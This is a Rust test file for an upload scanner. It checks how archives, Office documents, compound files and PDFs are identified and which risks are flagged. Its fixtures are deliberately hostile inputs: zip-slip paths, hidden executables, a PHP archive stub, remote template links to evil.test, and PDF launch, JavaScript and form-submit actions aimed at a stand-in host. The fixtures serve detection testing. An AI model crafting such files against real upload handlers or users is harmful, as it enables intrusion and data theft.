//! Archives, office documents, compound files and PDFs: what they are, and what they bring.
//!
//! Each row that must have a finding stands beside one that differs in that point only and has none.
#![cfg(feature = "upload")]

mod support;

use std::collections::BTreeSet;
use std::fmt::Write as _;
use support::upload::Pieces;
use support::upload_build::{
    Entry, Node, compound, deflate, end_record, package, pdf, pdf_with_trailer, plain_zip, relation,
    relations, stream, zip, zlib,
};
use untaint::upload::{
    self, Family, FileType, Finding, Inspector, SafeUpload, Sniffed, Upload, UploadError, UploadPolicy,
};

/// The codes of all findings, with nothing claimed, under a policy that allows every type.
fn findings(bytes: &[u8]) -> BTreeSet<&'static str> {
    let policy = UploadPolicy::builder().allow(FileType::all()).max_bytes(1 << 30).build().unwrap();
    let verdict = upload::check(&Upload { name: "upload", declared: None, bytes }, &policy);
    let whole = codes(&verdict);
    // In pieces it is the same, where the pieces are not refused before the end.
    for pieces in [Pieces::Even(4099), Pieces::Random(7)] {
        let mut inspector = Inspector::new("upload", None, &policy);
        if pieces.cut(bytes).into_iter().all(|piece| inspector.push(piece).is_ok()) {
            assert_eq!(codes(&inspector.finish()), whole, "{pieces:?}");
        }
    }
    whole
}

fn codes(verdict: &Result<SafeUpload, UploadError>) -> BTreeSet<&'static str> {
    let list = verdict.as_ref().map_or_else(UploadError::findings, SafeUpload::findings);
    list.iter().map(Finding::code).collect()
}

#[track_caller]
fn clean(what: &str, bytes: &[u8]) {
    let found = findings(bytes);
    assert!(found.is_empty(), "{what}: {found:?}");
}

#[track_caller]
fn found(what: &str, bytes: &[u8], code: &str) {
    let found = findings(bytes);
    assert!(found.contains(code), "{what}: {found:?} without {code}");
}

#[track_caller]
fn known(what: &str, bytes: &[u8], file_type: FileType) {
    assert_eq!(upload::sniff(bytes), Sniffed::Known(file_type), "{what}");
}

// ZIP

fn text_entry(name: &str) -> Entry {
    Entry::new(name, "some text").deflated()
}

#[test]
fn an_archive_of_files_is_clean() {
    let archive = zip(&[
        text_entry("a.txt"),
        Entry::new("folder/", ""),
        text_entry("folder/b.txt"),
        text_entry("c/d.py"),
    ]);
    known("files", &archive, FileType::ZIP);
    clean("files", &archive);
    let empty = zip(&[]);
    assert_eq!(empty.len(), 22);
    known("no entries", &empty, FileType::ZIP);
    clean("no entries", &empty);
}

#[test]
fn names_in_archives() {
    for name in [
        "../a",
        "a/../../b",
        "/etc/passwd",
        "..\\..\\a",
        "\\\\server\\a",
        "C:/a",
        "c:a",
        "a\0.txt",
        "a/.. /b",
    ] {
        found(name, &zip(&[text_entry(name)]), "upload.zip_slip");
    }
    for name in ["a/b..c/d", "a...", "..a/b", "a/c:d", ".hidden", "ä/日本語.txt", "folder\\file.txt"] {
        clean(name, &zip(&[text_entry(name)]));
    }
    // The field that carries the name in UTF-8 again counts where it is another.
    let mut entry = text_entry("a.txt");
    entry.extra = [&[0x75, 0x70, 9, 0, 1, 0, 0, 0, 0][..], b"../a"].concat();
    found("unicode path", &zip(&[entry.clone()]), "upload.zip_slip");
    entry.extra.truncate(9);
    entry.extra.extend(b"abcd");
    clean("unicode path", &zip(&[entry]));
}

#[test]
fn names_that_are_one() {
    for (one, other) in
        [("a.txt", "a.txt"), ("a.txt", "A.TXT"), ("\u{e4}", "a\u{308}"), ("b/c", "b//./C"), ("x", "x. ")]
    {
        found(other, &zip(&[text_entry(one), text_entry(other)]), "upload.zip_duplicate");
    }
    clean("two names", &zip(&[text_entry("a.txt"), text_entry("b/a.txt"), text_entry("aa.txt")]));
    // Programs are loaded from the archive, where case counts.
    let jar = [text_entry("META-INF/MANIFEST.MF"), text_entry("a.class"), text_entry("A.class")];
    clean("classes", &zip(&jar));
}

#[test]
fn entries_that_are_no_files() {
    let with_mode = |mode: u32| {
        let mut entry = text_entry("a");
        entry.attributes = mode << 16;
        zip(&[entry])
    };
    for mode in [0o120_777, 0o020_644, 0o060_644, 0o140_755] {
        found("mode", &with_mode(mode), "upload.zip_link");
    }
    for mode in [0, 0o100_644, 0o100_755, 0o010_600] {
        clean("mode", &with_mode(mode));
    }
}

#[test]
fn encrypted_entries() {
    for flags in [1, 0x41, 0x2000] {
        let mut entry = text_entry("a");
        entry.flags = flags;
        found("flag", &zip(&[entry]), "upload.zip_encrypted");
    }
    let mut entry = text_entry("a");
    entry.method = 99;
    found("AES", &zip(&[entry]), "upload.zip_encrypted");
    let mut entry = text_entry("a");
    entry.flags = 0x800;
    clean("UTF-8", &zip(&[entry]));
}

#[test]
fn archives_that_grow() {
    let declared = |size: u32, len: usize| {
        let mut entry = Entry::new("a.log", vec![b'a'; len]).deflated();
        entry.declared = Some(size);
        zip(&[entry])
    };
    found("a megabyte of two kilobytes", &declared(1 << 20, 2000), "upload.zip_ratio");
    found("4 GB", &declared(0xFFFF_FFF0, 1 << 20), "upload.zip_ratio");
    clean("small", &declared(100_000, 500));
    clean("dense", &declared(3 << 20, 100_000));
    // One piece of data under many names.
    let data = Entry::new("a", vec![b'x'; 1000]);
    let (mut out, mut directory) = (data.local(), Vec::new());
    for name in ["a", "b", "c"] {
        directory.extend(Entry::new(name, vec![b'x'; 1000]).central(0));
    }
    let end = end_record(3, directory.len(), out.len(), b"");
    out.extend(directory);
    out.extend(end);
    found("shared data", &out, "upload.zip_ratio");
    found("shared data", &out, "upload.malformed");
}

#[test]
fn archives_in_archives() {
    let inner = plain_zip(&[("a.txt", b"x")]);
    found("by name", &plain_zip(&[("b.zip", b"?")]), "upload.zip_nested");
    found("by content", &plain_zip(&[("b.dat", &inner)]), "upload.zip_nested");
    found("rar", &plain_zip(&[("b.dat", b"Rar!\x1A\x07\x01\0\0\0")]), "upload.zip_nested");
    let document = package("word/document.xml", DOCX, &[]);
    clean("a document", &plain_zip(&[("report.docx", &document)]));
}

#[test]
fn programs_in_archives() {
    for name in [
        "run.exe",
        "a/RUN.ExE",
        "run.exe. ",
        "x.js",
        "shell.php",
        "a.ps1",
        "a/.htaccess",
        "b/web.config",
        "a.lnk",
    ] {
        found(name, &zip(&[text_entry(name)]), "upload.zip_executable");
    }
    found("by content", &plain_zip(&[("picture.png", b"MZ\x90\0\x03\0\0\0\x04")]), "upload.zip_executable");
    clean("text", &plain_zip(&[("MZ.txt", b"MZ is how it begins"), ("exe", b"x"), ("about.exe.txt", b"x")]));
}

#[test]
fn directories_that_lie() {
    let archive = plain_zip(&[("a.txt", b"x"), ("b.txt", b"y")]);
    let end = archive.len() - 22;
    let change = |at: usize, with: &[u8]| {
        let mut changed = archive.clone();
        changed[at..at + with.len()].copy_from_slice(with);
        changed
    };
    clean("as it is", &archive);
    found("count", &change(end + 8, &[3, 0, 3, 0]), "upload.malformed");
    found("count on this disk", &change(end + 8, &[1]), "upload.malformed");
    found("disk", &change(end + 4, &[1]), "upload.malformed");
    found("size", &change(end + 12, &[10]), "upload.malformed");
    found("place", &change(end + 16, &[0xFF, 0xFF]), "upload.malformed");
    found("local name", &change(30, b"b"), "upload.malformed");
    found("local method", &change(8, &[8]), "upload.malformed");
    found("local size", &change(18, &[9]), "upload.malformed");
    found("no local header", &change(0x24, b"xx"), "upload.malformed");
    let mut entry = text_entry("a.txt");
    entry.local_name = Some(b"../a.exe".to_vec());
    found("another local name", &zip(&[entry]), "upload.malformed");

    // A second end record in the comment of the first: some programs take the one, some the other.
    let comment = end_record(0, 0, 0, b"");
    let mut both = archive[..end].to_vec();
    both.extend(end_record(2, 2 * (46 + 5), end - 2 * (46 + 5), &comment));
    found("two ends", &both, "upload.malformed");
    let mut said = archive[..end].to_vec();
    said.extend(end_record(2, 2 * (46 + 5), end - 2 * (46 + 5), b"a comment"));
    clean("comment", &said);

    // An entry that only programs find which read from the front.
    let hidden = Entry::new("evil.exe", "x").local();
    let listed = Entry::new("a.txt", "x");
    let mut out = listed.local();
    out.extend(&hidden);
    let at = out.len();
    out.extend(listed.central(0));
    let size = out.len() - at;
    out.extend(end_record(1, size, at, b""));
    found("unlisted entry", &out, "upload.malformed");
}

#[test]
fn bytes_around_archives() {
    let archive = plain_zip(&[("a.txt", b"x")]);
    found("behind", &[&archive[..], b"some more bytes"].concat(), "upload.trailing");
    clean("padding", &[&archive[..], &[0; 512]].concat());
    found("in front", &[&Entry::new("b", "y").local()[..], &archive].concat(), "upload.polyglot");
    found("cut", &archive[..archive.len() / 2], "upload.truncated");
    assert_eq!(upload::sniff(&archive[..archive.len() / 2]), Sniffed::Family(Family::Zip));
    for stub in [&archive[..4], &archive[..20], &archive[..31], b"PK\x05\x06"] {
        assert_eq!(upload::sniff(stub), Sniffed::Truncated, "{} bytes", stub.len());
    }
    assert!(matches!(upload::sniff(b"PK is short for a name"), Sniffed::Text(_)));
    assert_eq!(findings(b"PK is short for a name"), BTreeSet::new());
}

#[test]
fn a_large_directory_is_not_read_whole_or_in_pieces() {
    let entry = Entry::new("a", "");
    let of = |count: u16| {
        let mut out = entry.local();
        let at = out.len();
        for _ in 0..count {
            out.extend(entry.central(0));
        }
        let size = out.len() - at;
        out.extend(end_record(count, size, at, b""));
        out
    };
    found("1.4 MB", &of(30_000), "upload.zip_directory");
    assert_eq!(upload::sniff(&of(30_000)), Sniffed::Family(Family::Zip));
    // Just below the limit it is read, in linear time.
    let below = findings(&of(22_000));
    assert!(below.contains("upload.zip_duplicate") && !below.contains("upload.zip_directory"), "{below:?}");
}

// What an archive is

const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const DOCM: &str = "application/vnd.ms-word.document.macroEnabled.main+xml";
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

#[test]
fn packages_are_told_by_their_main_part() {
    for (part, content_type, file_type) in [
        ("word/document.xml", DOCX, FileType::DOCX),
        ("word/document.xml", DOCM, FileType::DOCM),
        ("xl/workbook.xml", XLSX, FileType::XLSX),
        ("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", FileType::XLSB),
        (
            "ppt/presentation.xml",
            "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml",
            FileType::PPSX,
        ),
        ("anywhere/else.xml", DOCX, FileType::DOCX),
    ] {
        known(part, &package(part, content_type, &[]), file_type);
    }
    // Hidden from a search for the word.
    known("escaped", &package("word/document.xml", &DOCM.replace('E', "&#x45;"), &[]), FileType::DOCM);
    // A comment is not the list.
    let decoy = format!(
        "<Types><!-- <Override PartName=\"/word/document.xml\" ContentType=\"{DOCX}\"/> -->\
         <Override PartName='/word/document.xml' ContentType='{DOCM}'/></Types>"
    );
    let rels = relations(&[relation("officeDocument", "word/document.xml", false)]);
    let entries: [(&str, &[u8]); 3] =
        [("word/document.xml", b"<d/>"), ("[Content_Types].xml", decoy.as_bytes()), ("_rels/.rels", &rels)];
    known("decoy", &plain_zip(&entries), FileType::DOCM);

    known(
        "no list of types",
        &plain_zip(&[("word/document.xml", b"x"), ("word/evil.exe", b"x")]),
        FileType::ZIP,
    );
    let missing = plain_zip(&[entries[1], entries[2]]);
    assert_eq!(upload::sniff(&missing), Sniffed::Family(Family::Zip), "no main part");
    let none = plain_zip(&[("[Content_Types].xml", b"<Types/>"), entries[0], entries[2]]);
    assert_eq!(upload::sniff(&none), Sniffed::Family(Family::Zip), "no type for the main part");
}

#[test]
fn archives_are_told_by_their_entries() {
    type Row<'a> = (&'a [(&'a str, &'a [u8])], FileType);
    let x: &[u8] = b"x";
    let rows: &[Row<'_>] = &[
        (&[("META-INF/MANIFEST.MF", x), ("A.class", x)], FileType::JAR),
        (&[("com/a/A.class", x), ("com/a/B.class", x)], FileType::JAR),
        (&[("META-INF/MANIFEST.MF", x), ("AndroidManifest.xml", x), ("classes.dex", x)], FileType::APK),
        (&[("mimetype", b"application/epub+zip"), ("META-INF/container.xml", x)], FileType::EPUB),
        (&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", x)], FileType::ODT),
        (
            &[("mimetype", b"application/vnd.oasis.opendocument.text-template"), ("content.xml", x)],
            FileType::OTT,
        ),
        (&[("mimetype", b"image/openraster"), ("stack.xml", x)], FileType::ORA),
        (&[("a/__init__.py", x), ("a-1.0.dist-info/WHEEL", x)], FileType::WHEEL),
        (&[("a.nuspec", x), ("[Content_Types].xml", b"<Types/>")], FileType::NUPKG),
        (&[("doc.kml", x), ("files/a.png", x)], FileType::KMZ),
        (&[("a.npy", x), ("b.npy", x)], FileType::NPZ),
        (&[("a.usdc", x), ("b.png", x)], FileType::USDZ),
        (&[("Payload/A.app/Info.plist", x)], FileType::IPA),
        (&[("manifest.json", b"{\"manifest_version\":2,\"applications\":{\"gecko\":{}}}")], FileType::XPI),
        // Not quite.
        (&[("manifest.json", b"{\"manifest_version\":2}")], FileType::ZIP),
        (&[("a.npy", x), ("readme.txt", x)], FileType::ZIP),
        (&[("files/doc.kml", x)], FileType::ZIP),
        (&[("a/b-1.0.dist-info/WHEEL", x)], FileType::ZIP),
    ];
    for (entries, file_type) in rows {
        known(entries[0].0, &plain_zip(entries), *file_type);
        let deflated: Vec<_> = entries.iter().map(|(name, data)| Entry::new(name, data).deflated()).collect();
        if *file_type != FileType::USDZ {
            known(entries[0].0, &zip(&deflated), *file_type);
        }
    }
    for mimetype in [&b"application/epub+zip"[..], b"application/unheard-of"] {
        let named_only = plain_zip(&[("mimetype", mimetype), ("run.exe", x)]);
        assert_eq!(upload::sniff(&named_only), Sniffed::Family(Family::Zip), "a name is no book");
    }
}

#[test]
fn a_name_may_say_what_an_archive_of_files_is_for() {
    let comic = plain_zip(&[("01.png", b"x"), ("02.png", b"x")]);
    let check = |name, allowed, declared| {
        let policy = UploadPolicy::builder().allow([allowed]).build().unwrap();
        let verdict = upload::check(&Upload { name, declared, bytes: &comic }, &policy);
        verdict.map(|up| up.file_type()).map_err(|error| error.code())
    };
    assert_eq!(check("a.cbz", FileType::CBZ, Some("application/vnd.comicbook+zip")), Ok(FileType::CBZ));
    assert_eq!(check("a.zip", FileType::ZIP, None), Ok(FileType::ZIP));
    // What a browser installs must be listed as such, and what a program opens is told by its content.
    assert_eq!(check("a.xpi", FileType::ZIP, None), Err("upload.type"));
    assert_eq!(check("a.docx", FileType::ZIP, None), Err("upload.extension"));
    assert_eq!(check("a.jar", FileType::ZIP, None), Err("upload.extension"));
}

#[test]
fn a_document_that_java_starts() {
    let odt: Vec<(&str, &[u8])> =
        vec![("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"x")];
    clean("a text", &plain_zip(&odt));
    let mut both = odt.clone();
    both.push(("META-INF/MANIFEST.MF", b"x"));
    found("and a program", &plain_zip(&both), "upload.polyglot");
}

#[test]
fn a_beginning_is_not_more_than_it_shows() {
    let book = plain_zip(&[("mimetype", b"application/epub+zip"), ("META-INF/container.xml", &[b'x'; 900])]);
    known("book", &book[..512], FileType::EPUB);
    let document = package("word/document.xml", DOCX, &[]);
    assert_eq!(upload::sniff(&document[..512]), Sniffed::Family(Family::Zip));
}

// Documents

fn docx(parts: &[Entry]) -> Vec<u8> {
    package("word/document.xml", DOCX, parts)
}

fn docx_with(relation: String) -> Vec<u8> {
    docx(&[Entry::new("word/_rels/document.xml.rels", relations(&[relation])).deflated()])
}

/// From a review: archives that two readers read as two, and that PHP opens as its own.
#[test]
fn archives_for_other_readers() {
    let plain = plain_zip(&[("a.txt", b"x")]);
    clean("plain", &plain);
    found("begins twice", &[b"PK\x03\x04".as_slice(), &plain].concat(), "upload.malformed");
    found("PHP archive", &plain_zip(&[(".phar/.metadata.bin", b"x")]), "upload.server_code");
    let code = b"<?php __HALT_COMPILER(); ?>";
    let mut commented = plain.clone();
    let length = commented.len() - 2;
    commented[length] = u8::try_from(code.len()).expect("short");
    commented.extend(code);
    found("code in the comment", &commented, "upload.server_code");
    let mut words = plain;
    words[length] = 5;
    words.extend(b"hello");
    clean("words in the comment", &words);
}

#[test]
fn queries_of_workbooks() {
    let workbook = |entries: &[Entry]| package("xl/workbook.xml", XLSX, entries);
    clean("none", &workbook(&[]));
    found("query", &workbook(&[Entry::new("xl/connections.xml", "<connections/>")]), "upload.external");
}

#[test]
fn macros_of_office_documents() {
    clean("none", &docx(&[]));
    found("VBA", &docx(&[Entry::new("word/vbaProject.bin", "x")]), "upload.macro");
    found("VBA, elsewhere", &docx_with(relation("vbaProject", "other.bin", false)), "upload.macro");
    found(
        "macro sheet",
        &package("xl/workbook.xml", XLSX, &[Entry::new("xl/macrosheets/sheet1.xml", "x")]),
        "upload.macro",
    );
    found("type", &package("word/document.xml", DOCM, &[]), "upload.macro_enabled");

    let odt = |parts: &[(&str, &[u8])]| {
        let mut entries: Vec<(&str, &[u8])> =
            vec![("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"x")];
        entries.extend(parts);
        plain_zip(&entries)
    };
    found("Basic", &odt(&[("Basic/Standard/Module1.xml", b"x")]), "upload.macro");
    found("Python", &odt(&[("Scripts/python/a.py", b"x")]), "upload.macro");
    clean("an empty library", &odt(&[("Basic/Standard/script-lb.xml", b"x"), ("Basic/script-lc.xml", b"x")]));
    let manifest = |inner: &str| {
        format!("<m:manifest xmlns:m=\"urn:m\"><m:file-entry>{inner}</m:file-entry></m:manifest>")
    };
    let locked = manifest("<m:encryption-data/>");
    found("encrypted", &odt(&[("META-INF/manifest.xml", locked.as_bytes())]), "upload.encrypted");
    clean("manifest", &odt(&[("META-INF/manifest.xml", manifest("").as_bytes())]));
}

#[test]
fn what_documents_load_and_embed() {
    for (kind, target) in [
        ("attachedTemplate", "https://evil.test/a.dotm"),
        ("attachedTemplate", "file://evil.test/share/a.dotm"),
        ("attachedTemplate", "\\\\evil.test\\share\\a.dotm"),
        ("attachedTemplate", "&#104;ttp://evil.test/a.dotm"),
        ("oleObject", "mhtml:http://evil.test/a.html!x-usc:http://evil.test/a.html"),
        ("frame", "http://evil.test/"),
        ("subDocument", "http://evil.test/"),
    ] {
        found(target, &docx_with(relation(kind, target, true)), "upload.template");
    }
    for (kind, target) in [
        ("hyperlink", "https://example.com/"),
        ("attachedTemplate", "file:///C:\\Users\\me\\Templates\\Letter.dotx"),
        ("attachedTemplate", "Letter.dotx"),
        ("image", "file:///D:/pictures/a.png"),
    ] {
        clean(target, &docx_with(relation(kind, target, true)));
    }
    found("picture", &docx_with(relation("image", "https://evil.test/a.png", true)), "upload.external");
    let linked =
        [Entry::new("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>")];
    found("another workbook", &package("xl/workbook.xml", XLSX, &linked), "upload.external");
    clean("none", &package("xl/workbook.xml", XLSX, &[Entry::new("xl/worksheets/sheet1.xml", "x")]));
    found("chunk", &docx_with(relation("aFChunk", "chunk.html", false)), "upload.template");
    found("object", &docx(&[Entry::new("word/embeddings/oleObject1.bin", "x")]), "upload.embedded");
    found("control", &docx(&[Entry::new("word/activeX/activeX1.bin", "x")]), "upload.macro");
    // A chart's numbers.
    clean("chart", &docx(&[Entry::new("word/embeddings/Microsoft_Excel_Sheet1.xlsx", "x")]));
    found("program", &docx(&[Entry::new("word/media/a.exe", "x")]), "upload.zip_executable");
}

#[test]
fn long_lists_are_read_to_a_limit() {
    let links = |count: usize| {
        let mut list: Vec<String> =
            (0..count).map(|n| relation("hyperlink", &format!("https://example.com/{n}"), true)).collect();
        list.push(relation("attachedTemplate", "http://evil.test/", true));
        docx(&[Entry::new("word/_rels/document.xml.rels", relations(&list)).deflated()])
    };
    found("behind a thousand links", &links(1000), "upload.template");
    let beyond = findings(&links(10_000));
    assert!(beyond.contains("upload.parts_unread"), "{beyond:?}");
}

#[test]
fn what_is_not_seen_of_a_large_document_is_said() {
    let filler = |len: usize| Entry::new("word/media/a.bmp", vec![b'a'; len]);
    let document = |before: usize, behind: usize| {
        let whole = docx(&[]);
        assert_eq!(upload::sniff(&whole), Sniffed::Known(FileType::DOCX));
        let types = format!(
            "<Types><Override PartName='/word/document.xml' ContentType='{DOCX}'/>\
             <Default Extension='bmp' ContentType='image/bmp'/></Types>"
        );
        let rels = relations(&[relation("officeDocument", "word/document.xml", false)]);
        zip(&[
            Entry::new("word/media/b.bmp", vec![b'b'; before]),
            Entry::new("[Content_Types].xml", types).deflated(),
            Entry::new("_rels/.rels", rels).deflated(),
            Entry::new("word/document.xml", "<document/>").deflated(),
            filler(behind),
        ])
    };
    for (before, behind) in [(100, 4 << 20), (4 << 20, 100)] {
        let bytes = document(before, behind);
        known("at an end", &bytes, FileType::DOCX);
        clean("at an end", &bytes);
    }
    let bytes = document(2 << 20, 2 << 20);
    assert_eq!(upload::sniff(&bytes), Sniffed::Family(Family::Zip));
    found("in the middle", &bytes, "upload.parts_unread");
}

#[test]
fn an_archive_is_content_of_other_containers() {
    let archive = plain_zip(&[("a.txt", b"x")]);
    let mut message = compound(NO_CLASS, &[Node::stream("__properties_version1.0")]);
    message.extend(&archive);
    message.resize(message.len() + 512, 0xFF);
    clean("an attachment", &message);
    message.extend(&archive);
    found("an archive from the end", &message, "upload.polyglot");
}

// Compound files

const NO_CLASS: [u8; 16] = [0; 16];

fn word(more: Vec<Node>) -> Vec<u8> {
    let mut nodes = vec![Node::stream("WordDocument"), Node::stream("1Table")];
    nodes.extend(more);
    compound(NO_CLASS, &nodes)
}

#[test]
fn compound_files_are_told_by_what_is_at_their_top() {
    let installer = [0x84, 0x10, 0x0C, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46];
    for (name, file_type) in [
        ("WordDocument", FileType::DOC),
        ("Workbook", FileType::XLS),
        ("Book", FileType::XLS),
        ("PowerPoint Document", FileType::PPT),
        ("__properties_version1.0", FileType::MSG),
        ("VisioDocument", FileType::VSD),
    ] {
        known(
            name,
            &compound(NO_CLASS, &[Node::stream("\u{5}SummaryInformation"), Node::stream(name)]),
            file_type,
        );
        // Inside something else it is an embedded object.
        let inside = compound(NO_CLASS, &[Node::storage("Pool", vec![Node::stream(name)])]);
        assert_eq!(upload::sniff(&inside), Sniffed::Family(Family::Ole), "{name}");
    }
    known("installer", &compound(installer, &[Node::stream("a")]), FileType::MSI);
    known("installer's tables", &compound(NO_CLASS, &[Node::stream("\u{4840}\u{3F3F}")]), FileType::MSI);
    let both = compound(NO_CLASS, &[Node::stream("WordDocument"), Node::stream("Workbook")]);
    assert_eq!(upload::sniff(&both), Sniffed::Family(Family::Ole));
    found("two documents", &both, "upload.polyglot");
    let locked = compound(NO_CLASS, &[Node::stream("EncryptionInfo"), Node::stream("EncryptedPackage")]);
    known("encrypted", &locked, FileType::OFFICE_ENCRYPTED);
    found("encrypted", &locked, "upload.encrypted");
}

#[test]
fn macros_and_objects_of_compound_files() {
    clean("text", &word(vec![]));
    clean("an empty pool", &word(vec![Node::storage("ObjectPool", vec![])]));
    let vba = || Node::storage("VBA", vec![Node::stream("_VBA_PROJECT"), Node::stream("dir")]);
    found("Word", &word(vec![Node::storage("Macros", vec![vba()])]), "upload.macro");
    let book = |more: Vec<Node>| {
        let mut nodes = vec![Node::stream("Workbook")];
        nodes.extend(more);
        compound(NO_CLASS, &nodes)
    };
    clean("workbook", &book(vec![Node::stream("\u{1}CompObj")]));
    found("Excel", &book(vec![Node::storage("_VBA_PROJECT_CUR", vec![vba()])]), "upload.macro");
    found("only the inner", &book(vec![Node::storage("x", vec![vba()])]), "upload.macro");
    found(
        "object",
        &book(vec![Node::storage("MBD0018D4CE", vec![Node::stream("\u{1}Ole")])]),
        "upload.embedded",
    );
    let package = Node::storage("_1", vec![Node::stream("\u{1}Ole10Native")]);
    found("package", &word(vec![Node::storage("ObjectPool", vec![package])]), "upload.embedded");
}

#[test]
fn compound_files_that_lead_nowhere() {
    let whole = word((0..40).map(|n| Node::stream(&format!("s{n}"))).collect());
    clean("whole", &whole);
    let change = |at: usize, with: &[u8]| {
        let mut changed = whole.clone();
        changed[at..at + with.len()].copy_from_slice(with);
        changed
    };
    // The directory's second sector follows itself; its tree does; the table is not there; the start is not there.
    found("loop of sectors", &change(512 + 8, &[1]), "upload.malformed");
    found("loop of entries", &change(1024 + 128 + 72, &[1]), "upload.malformed");
    found("entry outside", &change(1024 + 128 + 72, &[0, 0xFF]), "upload.malformed");
    found("table outside", &change(76, &[0xFF, 0xFF]), "upload.malformed");
    found("directory outside", &change(48, &[0xFF, 0xFF]), "upload.truncated");
    assert_eq!(upload::sniff(&whole[..8]), Sniffed::Truncated);
    assert_eq!(upload::sniff(&whole[..512]), Sniffed::Family(Family::Ole));
}

// PDF

const PAGES: &[u8] = b"<</Type/Pages/Kids[]/Count 0>>";

fn catalog(more: &str) -> Vec<u8> {
    format!("<</Type/Catalog/Pages 2 0 R{more}>>").into_bytes()
}

fn page(more: &str) -> Vec<u8> {
    pdf(&[catalog(more), PAGES.to_vec()])
}

fn with(object: Vec<u8>) -> Vec<u8> {
    pdf(&[catalog(""), PAGES.to_vec(), object])
}

#[test]
fn a_pdf_needs_more_than_its_header() {
    let whole = page("");
    known("whole", &whole, FileType::PDF);
    known("a beginning", &whole[..40], FileType::PDF);
    known(
        "behind a printer's line",
        &[b"\x1B%-12345X@PJL ENTER LANGUAGE=PDF\r\n", &whole[..]].concat(),
        FileType::PDF,
    );
    for stub in [&b"%PDF-"[..], b"%PDF-1.4"] {
        assert_eq!(upload::sniff(stub), Sniffed::Truncated);
    }
    let comment = upload::sniff(b"%PDF-1.4\n%\xE2\xE3\xCF\xD3\n");
    assert!(!matches!(comment, Sniffed::Known(_)), "{comment:?}");
    for (other, why) in [
        (b"%PDF-1.4\n<html><script>alert(1)</script>".to_vec(), "a page"),
        (b"%PDF-1.4 is what such a file begins with, and then 12 objects.".to_vec(), "a text"),
        ([b"<html><script>x</script>\n", &whole[..]].concat(), "a page in front"),
        ([b"See %PDF-1.4: ", &whole[..]].concat(), "a text in front"),
    ] {
        assert_ne!(upload::sniff(&other), Sniffed::Known(FileType::PDF), "{why}");
    }
    found("cut", &whole[..whole.len() - 60], "upload.truncated");
}

#[test]
fn actions_of_a_pdf() {
    for action in [
        "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>",
        "/OpenAction<</S/J#61vaScript/J#53(x)>>",
        "/OpenAction << /S\n/Launch /F (calc.exe) >>",
        "/AA<</O<</S/SubmitForm/F(http://evil.test/)>>>>",
        "/Names<</JavaScript 5 0 R>>",
        "/A<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>",
        "/A<</S/GoToE>>",
        "/A<</S/ImportData>>",
        "/A<</S/Rendition>>",
        "/Subtype/RichMedia",
        "/Subtype/Movie",
        "/Subtype/Sound",
        "/AcroForm<</XFA 5 0 R>>",
        // Opened without a click.
        "/OpenAction<</S/URI/URI(http://evil.test/)>>",
        "/OpenAction 3 0 R",
        // Clicked, but not a page.
        "/A<</S/URI/URI(java\\163cript:alert\\(1\\))>>",
        "/A<</URI<6a617661736372697074 3a61>/S/URI>>",
        "/A<</S/URI/URI(file:///etc/passwd)>>",
    ] {
        let bytes = pdf(&[catalog(action), PAGES.to_vec(), b"<</S/URI/URI(http://evil.test/)>>".to_vec()]);
        found(action, &bytes, "upload.pdf_action");
    }
    for attached in [
        "/Names<</EmbeddedFiles 5 0 R>>",
        // From a review: `/Type/EmbeddedFile` may be left out.
        "/Annots[<</Subtype/FileAttachment/FS 6 0 R>>]",
        "/AF[<</Type/Filespec/F(x.exe)/EF<</F 7 0 R>>>>]",
    ] {
        let bytes = pdf(&[catalog(attached), PAGES.to_vec()]);
        assert_eq!(findings(&bytes), BTreeSet::from(["upload.pdf_attachment"]), "{attached}");
    }
    for harmless in [
        "/OpenAction[3 0 R/Fit]",
        "/OpenAction<</S/GoTo/D[3 0 R/Fit]>>",
        "/OpenAction<</S/Named/N/Print>>",
        "/OpenAction 3 0 R",
        "/A<</S/URI/URI(https://example.com/)>>",
        "/Title(all of \\(/JavaScript\\) and /Launch ( /JS ))",
        "/Title<2F4A6176615363726970742F4A53>",
        "%/JavaScript\n",
        "/JavaScripts 1/JSX 2/Launched 3",
        "/Names<</Dests 5 0 R>>",
    ] {
        clean(harmless, &pdf(&[catalog(harmless), PAGES.to_vec(), b"<</S/GoTo/D[3 0 R/Fit]>>".to_vec()]));
    }
}

#[test]
fn nothing_hides_an_object() {
    // Readers go to where the tables point, whatever seems open there.
    const OBJECT: &str = "9 0 obj <</S/JavaScript/JS(x)>> endobj";
    for (before, after) in [("/A(", ")"), ("%", "\n"), ("/A<", ">"), ("/A(", ""), ("/A<<<<[[", "")] {
        found(before, &page(&format!("{before} {OBJECT} {after}")), "upload.pdf_action");
    }
    let data = format!("data {OBJECT} data");
    found("in a stream", &with(stream("", data.as_bytes())), "upload.pdf_action");
    found(
        "behind one without end",
        &[&with(b"<<>>stream\n".to_vec())[..], OBJECT.as_bytes(), b"\n%%EOF\n"].concat(),
        "upload.pdf_action",
    );
    let content = b"BT (/JavaScript) Tj ET <</S/JavaScript/JS(x)>>";
    clean("a page that says so", &with(stream("", content)));
}

fn object_stream(dictionary: &str, objects: &[&str], junk: &str) -> (String, Vec<u8>) {
    let (mut head, mut body) = (String::new(), String::from(junk));
    for (index, object) in objects.iter().enumerate() {
        write!(head, "{} {} ", 10 + index, body.len()).unwrap();
        body.push_str(object);
        body.push(' ');
    }
    (format!("{dictionary}/N {}/First {}", objects.len(), head.len()), (head + &body).into_bytes())
}

#[test]
fn object_streams_are_looked_into() {
    const SCRIPT: &str = "<</S/JavaScript/JS(x)>>";
    const HARMLESS: &str = "<</Title(HTML/JavaScript)/A<</S/URI/URI(https://example.com/)>>>>";
    let flate = |dictionary: &str, objects: &[&str], junk: &str| {
        let (dictionary, data) = object_stream(dictionary, objects, junk);
        with(stream(&dictionary, &zlib(&data)))
    };
    clean("harmless", &flate("/Type/ObjStm/Filter/FlateDecode", &[HARMLESS, HARMLESS], ""));
    clean(
        "filter in an array",
